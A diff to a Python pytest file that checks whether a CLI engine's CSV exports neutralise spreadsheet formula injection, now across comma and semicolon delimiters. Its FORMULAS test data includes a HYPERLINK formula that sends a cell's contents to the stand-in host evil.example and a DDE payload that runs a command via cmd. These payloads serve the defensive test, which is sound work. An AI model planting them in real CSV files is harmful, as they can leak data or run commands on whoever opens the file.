@@ -7,6 +7,7 @@ from __future__ import annotations
 import csv
 from pathlib import Path
 
+import pytest
 from robust_helpers import HEADER, assert_clean_failure, cli, csv_line
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
@@ -14,12 +15,13 @@ FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'
 START = ("=", "+", "-", "@", "\t", "\r")
 
 
-def _cells(path: Path) -> list[str]:
-    with path.open(encoding="utf-8", newline="") as file:
-        return [cell for row in csv.reader(file) for cell in row]
+def _cells(path: Path, delimiter: str = ",") -> list[str]:
+    with path.open(encoding="utf-8-sig", newline="") as file:
+        return [cell for row in csv.reader(file, delimiter=delimiter) for cell in row]
 
 
-def test_formula_ids_are_text_in_every_csv_the_engine_writes(tmp_path: Path) -> None:
+@pytest.mark.parametrize(("form", "delimiter"), [("fr", ";"), ("plain", ",")])
+def test_formula_ids_are_text_in_every_csv_the_engine_writes(tmp_path: Path, form: str, delimiter: str) -> None:
     rows = [HEADER]
     for n, formula in enumerate(FORMULAS):
         rows.append(csv_line(learner_id=formula[:200], fabrique_id=f"{formula[:150]}{n}"))  # granted
@@ -30,19 +32,19 @@ def test_formula_ids_are_text_in_every_csv_the_engine_writes(tmp_path: Path) -> 
     batch = cli("batch", str(path), "--db", db, "--rejected", str(tmp_path / "rejected.csv"), "--jobs", "1")
     assert batch.exit_code == 0, batch.stderr
     report = cli("report", "--db", db, "--csv", str(tmp_path / "csv"), "--cash-flow", str(tmp_path / "cash.csv"),
-                 "--json")
+                 "--json", "--csv-format", form)
     assert report.exit_code == 0, report.stderr
     assert_clean_failure(batch.stderr + report.stderr)
-    files = [tmp_path / "rejected.csv", tmp_path / "cash.csv", *sorted((tmp_path / "csv").glob("*.csv"))]
+    files = [tmp_path / "cash.csv", *sorted((tmp_path / "csv").glob("*.csv"))]
     assert len(files) >= 10
     seen = 0
-    for file in files:
-        for cell in _cells(file):
+    for file in [tmp_path / "rejected.csv", *files]:
+        for cell in _cells(file, "," if file.name == "rejected.csv" else delimiter):
             assert not cell.startswith(START), f"{file.name}: {cell!r} would run as a formula"
             seen += cell.startswith("'") and cell[1:].startswith(START)
     rejected = _cells(tmp_path / "rejected.csv")
     assert all(f"'{f.strip()}x" in rejected for f in FORMULAS), "rejected ids are read stripped"
-    cash = _cells(tmp_path / "cash.csv")
+    cash = _cells(tmp_path / "cash.csv", delimiter)
     printable = [f for f in FORMULAS if not f.startswith("\t")]  # a tab is a control character: rejected at input
     assert all(f"'{f[:200]}" in cash for f in printable), "granted learners appear in the payment run, as text"
     assert "'=1+1" in rejected, "the tab-led id is a rejected row, shown stripped and as text"
